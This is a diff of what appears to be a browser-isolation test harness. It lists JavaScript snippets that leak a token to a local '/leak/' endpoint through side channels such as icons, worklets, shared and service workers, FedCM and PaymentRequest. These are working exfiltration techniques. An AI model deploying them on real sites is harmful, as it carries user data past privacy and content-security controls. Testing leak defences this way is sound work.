@@ -67,10 +67,6 @@ CHANNELS: dict[str, str] = {
         "every((t, b) => document.head.appendChild(add('link', "
         "{rel: 'icon', href: b + '/leak/icon?v=' + t})));"
     ),
-    "manifest": (
-        "every((t, b) => document.head.appendChild(add('link', "
-        "{rel: 'manifest', href: b + '/leak/manifest?v=' + t})));"
-    ),
     "worklet": (
         "const ac = new AudioContext(); "
         "every((t, b) => ac.audioWorklet.addModule(b + '/leak/worklet?v=' + t));"
@@ -82,11 +78,6 @@ CHANNELS: dict[str, str] = {
     ),
     "modulepreload": (
         "every((t, b) => add('link', {rel: 'modulepreload', href: b + '/leak/mp?v=' + t}));"
-    ),
-    "prerender": "every((t, b) => add('link', {rel: 'prerender', href: b + '/leak/pre?v=' + t}));",
-    "preconnect": (
-        "every(() => { for (const rel of ['preconnect', 'dns-prefetch']) "
-        "add('link', {rel, href: 'http://kwikstaart.www.facebook.com.localhost:' + PORT}); });"
     ),
     "speculation prefetch": (
         "every((t, b) => { const s = document.createElement('script'); s.type = 'speculationrules';"
@@ -166,8 +157,8 @@ CHANNELS: dict[str, str] = {
         " every((t, b) => w3.port.postMessage({t, base: b}));"
     ),
     "shared worker late": (
-        "every((t, b) => { const w = new SharedWorker('data:text/javascript,fetch(\"' + b"
-        " + '/leak/shared?v=' + enc(t) + '\", {mode: \"no-cors\"})'); });"
+        "every((t, b) => new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + b"
+        " + '/leak/shared?v=' + t + '\", {mode: \"no-cors\"})']))));"
     ),
     "shared worker address": "every((t, b) => new SharedWorker(OWN + '/worker.js?v=' + t));",
     "service worker": (
@@ -211,7 +202,7 @@ CHANNELS: dict[str, str] = {
     ),
     # -------------------------------------------------------------- the browser's own reports
     "csp report": (
-        "every((t, b) => { new Image().src = 'http://127.0.0.1:1/blocked?v=' + t; });"
+        "every((t, b) => { new Image().src = 'http://kwikstaart.localhost:1/'; });"
     ),
     "fedcm": (
         "every((t, b) => navigator.credentials.get({identity: {providers: [{configURL: b + "
@@ -220,8 +211,5 @@ CHANNELS: dict[str, str] = {
     "payment": (
         "every((t, b) => new PaymentRequest([{supportedMethods: b + '/leak/pay?v=' + t}],"
         " {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment());"
-    ),
-    "console and error": (
-        "every((t) => { console.log(t); setTimeout(() => { throw new Error(t); }); });"
     ),
 }
